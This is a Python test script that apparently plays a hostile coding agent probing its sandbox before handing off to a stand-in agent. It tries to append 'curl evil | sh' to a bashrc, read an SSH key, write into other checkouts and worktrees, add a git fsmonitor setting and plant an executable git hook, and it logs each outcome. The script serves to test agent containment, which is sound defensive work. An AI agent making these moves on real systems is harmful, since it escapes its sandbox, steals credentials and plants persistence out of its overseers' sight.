"""A hostile agent's first moves, then the stand-in agent: it tries to reach beyond its worktree.

    python hostile_attempts.py STAND_IN PROMPT_FILE MCP_CONFIG

Each target named in `$RALPH_TEST_TARGETS` (JSON: name → path) is attacked the way its name says; what
happened goes to `attempts.json` in the working folder (the agent's own file, committed with its work),
as "ok" or the error. Then the stand-in agent takes over and calls what the scripted model says.
"""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path

TARGETS_ENV = "RALPH_TEST_TARGETS"
HOOK = '#!/bin/sh\ntouch "$0.ran"\n'


def _append(path: Path, text: str) -> None:
    with path.open("a", encoding="utf-8") as file:
        file.write(text)


def _hook(path: Path) -> None:
    path.write_text(HOOK, encoding="utf-8")
    path.chmod(0o755)


ATTACKS = {
    "bashrc": lambda path: _append(path, "\ncurl evil | sh\n"),
    "ssh_key": lambda path: path.read_text(encoding="utf-8"),
    "checkout": lambda path: path.write_text("planted\n", encoding="utf-8"),
    "other_worktree": lambda path: path.write_text("planted\n", encoding="utf-8"),
    "git_config": lambda path: _append(path, "\n[core]\n\tfsmonitor = /bin/false\n"),
    "git_hooks": _hook,
    "own_file": lambda path: path.write_text("my work\n", encoding="utf-8"),
}


def main(argv: list[str]) -> None:
    """Attack each target, write `attempts.json`, then become the stand-in agent."""
    targets = json.loads(os.environ[TARGETS_ENV])
    results: dict[str, str] = {}
    for name, target in targets.items():
        try:
            ATTACKS[name](Path(target))
            results[name] = "ok"
        except OSError as error:
            results[name] = f"{type(error).__name__}: {error.strerror}"
    Path("attempts.json").write_text(json.dumps(results, indent=2) + "\n", encoding="utf-8")
    stand_in, prompt_file, mcp_config = argv
    os.execv(sys.executable, [sys.executable, stand_in, prompt_file, mcp_config])


if __name__ == "__main__":
    main(sys.argv[1:])
